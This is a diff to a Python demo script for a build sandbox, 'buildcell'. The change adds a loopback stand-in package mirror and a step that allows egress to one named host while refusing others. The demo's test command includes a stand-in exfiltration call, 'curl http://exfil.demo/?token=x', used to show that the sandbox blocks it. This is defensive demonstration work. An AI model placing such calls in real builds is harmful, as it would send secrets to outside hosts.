@@ -1,4 +1,4 @@
-"""`make demo`: compile and run a C program in a cell, then contain a hostile build."""
+"""`make demo`: compile and run a C program in a cell, contain a hostile build, allow one host."""
 
 from __future__ import annotations
 
@@ -24,6 +24,20 @@ def run(args: list[str], env: dict[str, str] | None = None) -> int:
     return subprocess.run([*BUILDCELL, *args], env=env, check=False).returncode
 
 
+class _Mirror(http.server.BaseHTTPRequestHandler):
+    """Stands in for a package mirror on the host's loopback."""
+
+    def do_GET(self) -> None:
+        body = b"simple index\n"
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
 def main() -> int:
     work = Path(tempfile.mkdtemp(prefix="buildcell-demo-"))
     try:
@@ -40,9 +54,7 @@ def main() -> int:
         print(f"the source directory is untouched: {untouched}")
 
         say("2. A hostile build step tries to steal secrets and phone home")
-        server = http.server.ThreadingHTTPServer(
-            ("127.0.0.1", 0), http.server.BaseHTTPRequestHandler
-        )
+        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Mirror)
         threading.Thread(target=server.serve_forever, daemon=True).start()
         port = server.server_address[1]
         env = dict(os.environ, DEMO_RUNNER_TOKEN="ghp_demo-not-a-real-token")
@@ -64,9 +76,34 @@ def main() -> int:
             ],
             env=env,
         )
+        if rc != 0:
+            server.shutdown()
+            print("something leaked: see above")
+            return 1
+
+        say("3. Egress by name: one host allowed, everything else refused and recorded")
+        print(f"(a package mirror stands in on 127.0.0.1:{port}, pinned as mirror.demo)")
+        rc = run(
+            [
+                "run",
+                "--allow",
+                f"mirror.demo:{port}",
+                "--allow",
+                f"127.0.0.1:{port}",
+                "--add-host",
+                "mirror.demo:127.0.0.1",
+                "--",
+                "sh",
+                "-c",
+                f"curl -s -o /dev/null -w 'mirror.demo: HTTP %{{http_code}}\\n' "
+                f"http://mirror.demo:{port}/; "
+                "curl -s http://exfil.demo/?token=x; "
+                "getent hosts exfil.demo || echo 'exfil.demo: no such name in this cell'",
+            ]
+        )
         server.shutdown()
         if rc != 0:
-            print("something leaked: see above")
+            print("the egress demo failed: see above")
             return 1
         say("Everything was contained. Try `buildcell doctor` to see what this host enforces.")
         return 0
